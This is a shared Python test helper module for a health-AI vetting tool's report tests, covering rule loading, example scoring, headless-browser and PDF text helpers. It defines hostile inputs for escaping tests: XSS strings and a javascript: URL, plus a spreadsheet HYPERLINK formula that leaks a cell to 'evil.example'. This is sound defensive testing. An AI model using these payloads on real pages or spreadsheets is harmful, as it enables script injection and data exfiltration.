"""Shared helpers of the report tests: the default rule set, the examples, scored once.

No test here: the other `test_report*.py` modules import these helpers.
"""

from __future__ import annotations

import functools
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from tests.conftest import ROOT
from vetting.assess.answers import Answers, load_answers, parse_answers
from vetting.assess.assessment import Assessment
from vetting.assess.score import score
from vetting.ruleset.api import load_ruleset
from vetting.ruleset.compiled import CompiledRuleSet

EXAMPLES = ROOT / "examples" / "health-ai"
EXAMPLE_NAMES = sorted(p.stem for p in EXAMPLES.glob("*.yaml"))
LANGS = ("fr", "en")

#: Hostile text put everywhere an answers file can carry free text.
XSS = "<script>alert('x')</script><img src=x onerror=alert(1)> \"'><svg onload=alert(2)>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@functools.lru_cache(maxsize=1)
def ruleset() -> CompiledRuleSet:
    """health-ai, loaded from the checkout with a relative path (stable in reports)."""
    cwd = Path.cwd()
    os.chdir(ROOT)
    try:
        return load_ruleset("rules/health-ai")
    finally:
        os.chdir(cwd)


@functools.cache
def example(name: str) -> tuple[Answers, Assessment]:
    """An example's answers and assessment, the answers file named relative to the checkout."""
    compiled = ruleset()
    display = f"examples/health-ai/{name}.yaml"
    answers, _ = load_answers(EXAMPLES / f"{name}.yaml", compiled, display=display)
    return answers, score(compiled, answers)


def hostile_answers() -> tuple[Answers, Assessment]:
    """The pending example with hostile text in every free-text field."""
    compiled = ruleset()
    text = (EXAMPLES / "triage-pending.yaml").read_text(encoding="utf-8")
    payload = XSS.replace("'", "''")
    text = text.replace("name: TriagePlus", f"name: '{payload}'")
    text = text.replace("vendor: Urgentis (fictional)", f"vendor: '{payload}'")
    text = text.replace("version: '1.0'", "version: '1.0'\n  url: 'javascript:alert(3)'")
    text = text.replace("assessor: SAMU de Fictiville", f"assessor: '{payload}'")
    text = text.replace(
        "  hosting.hds_certified: The vendor cites its cloud provider's certificate only.",
        f"  hosting.hds_certified: '{payload}'\n  reuse.resale: '{FORMULA}'",
    )
    text += (
        "evidence:\n"
        "  hosting.location:\n"
        f"    text: '{payload}'\n"
        "    status: declared\n"
        "    issued: 2025-01-01\n"
        "    expires: 2026-01-01\n"
    )
    answers, _ = parse_answers(text, compiled, file="hostile.yaml")
    return answers, score(compiled, answers)


def chromium() -> str:
    """The headless browser, or skip with the reason."""
    for name in ("chromium", "chromium-browser"):
        found = shutil.which(name)
        if found:
            return found
    pytest.skip("Debian's chromium is not installed (CI installs it: apt-get install chromium)")


def pdftotext() -> str:
    found = shutil.which("pdftotext")
    if not found:
        pytest.skip("pdftotext is not installed (CI installs it: apt-get install poppler-utils)")
    return found


def need_weasyprint() -> None:
    from vetting.report.pdf import available

    if not available():
        pytest.skip("WeasyPrint or its system libraries (Pango) are missing")


def pages(path: Path) -> list[str]:
    """The text of each page, in reading order (pdftotext separates pages with a form feed)."""
    proc = subprocess.run(
        [pdftotext(), "-layout", "-enc", "UTF-8", str(path), "-"],
        capture_output=True,
        text=True,
        check=True,
    )
    return proc.stdout.split("\f")[:-1]
